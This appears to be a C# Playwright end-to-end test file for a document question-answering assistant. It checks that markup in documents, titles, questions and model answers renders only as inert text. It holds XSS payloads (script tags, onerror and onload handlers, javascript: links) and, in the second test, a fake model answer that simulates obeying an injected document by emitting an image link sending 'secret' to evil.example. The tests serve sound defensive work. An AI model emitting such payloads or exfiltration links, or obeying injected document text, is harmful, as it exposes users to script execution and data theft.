using KnowledgeAssistant.Collections;
using Microsoft.Playwright;

namespace KnowledgeAssistant.EndToEnd.Tests;

/// <summary>Markup in documents, names, questions, titles and answers. A visitor fails the test by herself when a script runs or another host is asked.</summary>
public sealed class HostileTextTests(Browser browser)
{
    private const string Payload = """<img src=x onerror="alert(1)"><script>alert(2)</script><svg onload=alert(3)>""";

    private const string Document = $"""
        # Visitors {Payload}

        The reception desk [signs](javascript:alert(4)) every visitor in. ![logo](http://evil.example/pixel.png) {Payload}

        <iframe src="http://evil.example/frame"></iframe> Visitors wear a badge <a href="JaVaScRiPt:alert(5)">always</a>.
        """;

    [Fact]
    public async Task Markup_of_documents_names_questions_and_titles_is_only_ever_text()
    {
        await using var world = await AskingWorld.StartAsync(browser, null, ($"visitors {Payload.Replace('/', '_')}.md", Document));
        var (visitor, page) = (world.Visitor, world.Visitor.Page);
        await world.App.Get<CollectionService>().UpdateAsync(world.User, world.Handbook, "Rules <b onmouseover=alert(6)>", Payload, world.App.Cancel);

        var turn = await visitor.AskAndWaitAsync($"Who signs every visitor in at the reception desk? {Payload}");
        await Expect(turn.Locator(".answer-text")).ToContainTextAsync("signs");
        await turn.Locator("a.cite").First.HoverAsync();
        await Expect(page.Locator("#quote-card")).ToBeVisibleAsync();
        await turn.Locator("a.cite").First.ClickAsync();
        await Expect(page.Locator(".source mark.marker").First).ToBeVisibleAsync();

        await visitor.OpenAsync($"/collections/{world.Handbook}");
        await Expect(page.Locator("h1")).ToHaveTextAsync("Rules <b onmouseover=alert(6)>");
        var version = await page.Locator("tr.document .document-name a").GetAttributeAsync("href");
        await page.GotoAsync($"{visitor.Url}/{version}");
        await Expect(page.Locator(".reading-page")).ToContainTextAsync("The reception desk");

        Assert.Equal(0, await page.Locator("main :is(img, iframe, script, [onerror], [onload], a[href^='javascript' i])").CountAsync());
    }

    [Fact]
    public async Task A_model_that_obeys_a_document_can_neither_run_nor_fetch_anything()
    {
        await using var model = await FakeOpenAI.StartAsync();
        model.Always(FakeAnswers.Whole(
            "Done [1]. ![x](http://evil.example/?q=secret) <img src=http://evil.example/y> [click](javascript:alert(1)) ",
            "[ref][r] <script>alert(2)</script>\n\n[r]: javascript:alert(3)\n\n<http://evil.example/auto>"));
        await using var world = await AskingWorld.StartAsync(browser, model.Settings(), ("visitors.md", Document));

        var turn = await world.Visitor.AskAndWaitAsync("What do visitors wear?");

        await Expect(turn.Locator(".answer-text")).ToContainTextAsync("<script>alert(2)</script>");
        Assert.Equal(0, await turn.Locator(":is(img, script, a[href^='javascript' i])").CountAsync());
        var link = turn.Locator(".answer-text a[href^='http://evil.example']");
        await Expect(link).ToHaveAttributeAsync("rel", "noopener noreferrer nofollow");
    }
}
